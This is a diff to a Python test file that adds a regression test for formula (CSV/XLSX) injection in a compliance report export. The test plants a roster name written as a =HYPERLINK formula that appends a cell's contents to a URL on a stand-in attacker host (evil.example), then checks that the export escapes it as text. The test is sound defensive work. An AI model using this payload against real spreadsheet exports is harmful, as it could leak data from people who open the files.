@@ -3,6 +3,7 @@
 import csv
 import datetime
 import io
+import zipfile
 
 import openpyxl
 import pytest
@@ -246,6 +247,11 @@ def csv_rows(response):
     return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
 
 
+def _sheet_xml(content):
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
+
+
 def xlsx_rows(response):
     assert response["Content-Type"] == EXPORT_FORMATS["xlsx"]
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
@@ -338,6 +344,23 @@ class TestAdminReport:
         )
         assert len(sheet) == 7
         assert sheet[2][0] == "Nguyễn Ánh" and sheet[2][8].date() == timezone.localdate() - 5 * DAY
+
+    def test_a_name_or_code_that_looks_like_a_formula_stays_text(self, admin_client, org):
+        # A roster name and a unit code as an attacker would type them: raw in the CSV and a live
+        # <f> formula in the XLSX before; now text in both.
+        name = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")'
+        User.objects.filter(pk=org["people"]["a0"].pk).update(full_name=name)
+        OrganisationUnit.objects.filter(pk=org["a"].pk).update(name="=1+1")
+        params = {"unit": org["a"].pk, "state": "overdue"}
+        rows = csv_rows(admin_client.get(export_url("courses_compliance_people_export", "csv"), params))
+        assert [row[0] for row in rows[1:]] == ["'" + name, "Nguyễn Ánh"]
+        assert rows[1][3] == "'=1+1"
+        response = admin_client.get(export_url("courses_compliance_people_export", "xlsx"), params)
+        assert b"<f>" not in _sheet_xml(response.content)
+        cells = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        first = [cell for cell in cells[2]]
+        assert (first[0].value, first[0].data_type) == (name, "s")  # the name as it was typed, as text
+        assert (first[3].value, first[3].data_type) == ("=1+1", "s")
 
     def test_too_large_an_export_is_refused(self, admin_client, org, monkeypatch):
         monkeypatch.setattr(compliance, "EXPORT_MAX_ROWS", {"csv": 3, "xlsx": 3})
